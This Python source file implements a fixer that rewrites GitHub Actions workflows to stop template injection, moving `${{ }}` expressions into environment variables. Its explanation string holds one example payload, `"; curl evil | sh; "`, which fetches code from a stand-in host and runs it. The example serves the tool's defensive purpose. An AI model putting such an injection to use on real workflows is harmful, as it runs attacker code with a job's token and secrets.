"""Expressions that become code of a script."""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Iterator

from daemon.domain.fix import Candidate, Edit
from workers.fixers.registry import NoFix, Target, fixer
from workers.fixers.workflows import model
from workers.fixers.workflows.model import EXPRESSION, Workflow
from workers.fixers.workflows.script import (
    as_variables,
    expressions,
    other_rewrite,
    pasted,
    shell_rewrite,
    step_outputs,
)
from workers.fixers.workflows.script.pasted import Script
from workers.fixers.workflows.script.shell_rewrite import Change
from workers.source import handed

_INPUT = re.compile(r"(?:github\.event\.)?inputs\.(?P<name>[\w-]+)")


@fixer(
    name="template-injection",
    weakness="An expression is pasted into a script as code",
    rules={
        "zizmor": ["template-injection"],
        "semgrep": ["run-shell-injection", "github-script-injection"],
        "checkov": ["CKV_GHA_2"],
        "codeql": ["actions/code-injection/*"],
        "actionlint": ["expression"],
    },
    explain=(
        "GitHub replaces `${{ … }}` before the shell sees the script, so a pull request's title such as "
        '`"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets. Passed through an '
        'environment variable the value stays data: the shell expands `"$NAME"` after it has parsed the script, and '
        "never parses the result. The variable must stand where it is expanded (not in single quotes or a quoted "
        "heredoc) and in double quotes, so that it stays one word. Approaches: a variable of the step; one of the job, "
        "where several steps need it; the variable that the runner sets anyway (`$GITHUB_HEAD_REF`); in "
        "github-script, the payload that the action hands over; where a step has none of these, every script of the "
        "file at once."
    ),
)
def propose(target: Target) -> Iterator[Candidate]:
    """A script with expressions → the same script with variables."""
    workflow = model.read(target)
    scripts = _scripts(target, workflow)
    reasons: list[NoFix] = []
    made = 0
    for make in (_step_variables, _other_words, _runner_variables, _job_variables, _payload):
        try:
            found = make([script.fresh() for script in scripts])
        except NoFix as reason:
            reasons.append(reason)
            continue
        if found is not None:
            made += 1
            yield found
    if not made:
        raise reasons[0]
    if made == 1 and (everywhere := _everywhere(workflow, scripts)) is not None:
        yield everywhere


def _never(expression: str) -> bool:
    del expression
    return False


def _always(expression: str) -> bool:
    return not _never(expression)


def _loose(expression: str) -> bool:
    return expressions.foreign(expression) and not expressions.one_word(expression)


def _scripts(target: Target, workflow: Workflow) -> list[Script]:
    first, last = model.lines(target)
    flagged = pasted.of_step(workflow, model.flagged_step(target, workflow))
    if flagged is not None and pasted.pasted_into(flagged):
        return [flagged]
    inside = [step for step in workflow.steps if first <= workflow.doc.line_of(step.node.start) <= last]
    found = [
        script
        for step in inside
        if (script := pasted.of_step(workflow, step)) is not None and pasted.pasted_into(script)
    ]
    if not found:
        message = "no expression of this step carries text that somebody else can choose"
        raise NoFix(message)
    return found


def _changes(script: Script, name: Callable[[str], str], *, split: Callable[[str], bool] = _never) -> list[Change]:
    if script.language == "shell":
        zsh = script.workflow.shell(script.step).endswith("zsh")
        known = functools.partial(step_outputs.listed, script.workflow, script.step)
        whole = shell_rewrite.commands(script.text, expressions.foreign)
        for one in shell_rewrite.bare(script.text, expressions.foreign):
            if one not in whole:
                _no_command_line(script, one)
        return shell_rewrite.rewrite(
            script.text,
            expressions.foreign,
            name,
            split=lambda one: split(one) or handed.is_several([*known(one), *_handed(script, one)]),
            command=lambda one: bool(known(one)),
            zsh=zsh,
        )
    return other_rewrite.rewrite(script.language, script.text, expressions.foreign, name)


def _handed(script: Script, expression: str) -> list[str]:
    """What callers of this action or workflow give for an input."""
    match = _INPUT.fullmatch(expressions.inner(expression))
    path, tree = script.workflow.doc.path, script.workflow.tree
    return handed.values(path, match["name"], tree) if match and path and tree is not None else []


def _no_command_line(script: Script, expression: str) -> None:
    """Raises `NoFix` where the text is part of the command line: a variable's quotes and signs are read by nobody."""
    match = _INPUT.fullmatch(expressions.inner(expression))
    if match is not None and handed.is_shell(match["name"], _handed(script, expression)):
        message = f"`{expression}` is a piece of a command line, whose quotes a variable would keep as text"
        raise NoFix(message)


def _step_variables(scripts: list[Script]) -> Candidate:
    edits = [edit for script in scripts for edit in _with_variables(script, shell_rewrite.may_be_several)]
    loose = any(as_variables.bare(script, as_variables.several) for script in scripts)
    why = as_variables.explained(scripts[0], "the step", loose=loose) + "".join(_commands(scripts))
    return as_variables.made("env-variable", scripts, edits, why)


def _commands(scripts: list[Script]) -> Iterator[str]:
    """Which commands the variables stand for that are commands themselves."""
    for script in scripts:
        wanted = shell_rewrite.commands(script.text, expressions.foreign) if script.language == "shell" else []
        for one in dict.fromkeys(wanted):
            named = ", ".join(step_outputs.listed(script.workflow, script.step, one))
            yield f" What stands for a command stays bare: an earlier step of the job makes it one of {named}."


def _other_words(scripts: list[Script]) -> Candidate | None:
    """The other choice for bare words: split where they were taken for one.

    What looks like several words stays split: quoted, a list of options would be one, and an absent one an empty word.
    """
    several = any(
        as_variables.bare(script, as_variables.several) or as_variables.bare(script, expressions.switch)
        for script in scripts
    )
    if several or not any(as_variables.bare(script, _loose) for script in scripts):
        return None
    edits = [edit for script in scripts for edit in _with_variables(script, _always)]
    return as_variables.made(
        "env-variable-split", scripts, edits, as_variables.explained(scripts[0], "the step", loose=True)
    )


def _everywhere(workflow: Workflow, flagged: list[Script]) -> Candidate | None:
    """Every script of the file that text is pasted into; none where there is no other."""
    edits: list[Edit] = []
    done: list[Script] = []
    for step in workflow.steps:
        try:
            script = pasted.of_step(workflow, step)
            if script is None or not pasted.pasted_into(script):
                continue
            edits += _with_variables(script, shell_rewrite.may_be_several)
        except NoFix:
            continue
        done.append(script)
    own = {script.step.path for script in flagged}
    if len(done) < 2 or not own <= {script.step.path for script in done}:
        return None
    why = f"All {len(done)} scripts of this file read what was pasted into them from environment variables: "
    return as_variables.made(
        "env-variable-file", done, edits, f"{why}{as_variables.became(done)}. Each step has its own."
    )


def _runner_variables(scripts: list[Script]) -> Candidate | None:
    """The runner sets a variable for it already: no `env` is needed."""

    def known(expression: str) -> str:
        found = expressions.already_set(expression)
        if found is None:
            message = "the runner sets no variable for this expression"
            raise NoFix(message)
        return found

    if any(one.language == "javascript" for one in scripts) or all(
        expressions.inner(match[0]).startswith("env.")
        for one in scripts
        for match in EXPRESSION.finditer(one.text)
        if expressions.foreign(match[0])
    ):
        return None
    edits = [edit for script in scripts for edit in script.edits(_changes(script, known))]
    why = "The runner sets this variable for every step, so the script reads it without an `env` of its own."
    return as_variables.made("runner-variable", scripts, edits, why)


def _job_variables(scripts: list[Script]) -> Candidate | None:
    """The variable belongs to the job, where all its steps can read it."""
    edits: list[Edit] = []
    for script in scripts:
        job = script.step.job
        edits += script.edits(_changes(script, script.name, split=shell_rewrite.may_be_several))
        if job is None or any(
            not expressions.contexts(value) <= expressions.JOB_CONTEXTS for value in script.names.values()
        ):
            return None
        edits += as_variables.environment(script, job.node, before="steps")
    if not any(script.names for script in scripts):
        return None
    paths = [(*script.step.job.path, "env", name) for script in scripts if script.step.job for name in script.names]
    loose = any(as_variables.bare(script, as_variables.several) for script in scripts)
    why = as_variables.explained(scripts[0], "the job, for all its steps", loose=loose)
    return model.candidate("env-variable-job", edits, why, declares=[*paths, *as_variables.paths(scripts)])


def _payload(scripts: list[Script]) -> Candidate | None:
    """github-script hands the event over as an object: no text is pasted at all."""
    edits: list[Edit] = []
    for script in scripts:
        if script.step.action != "actions/github-script":
            return None
        try:
            changes = other_rewrite.from_context(script.text, expressions.foreign)
        except NoFix:
            return None
        if changes is None:
            return None
        edits += script.edits(changes)
    why = (
        "The script reads the event through github-script's own `context`: the value is an object's field, never code."
    )
    return as_variables.made("github-context", scripts, edits, why) if edits else None


def _with_variables(script: Script, split: Callable[[str], bool]) -> list[Edit]:
    edits = script.edits(_changes(script, script.name, split=split))
    return edits + as_variables.environment(script, script.step.node, before="run")
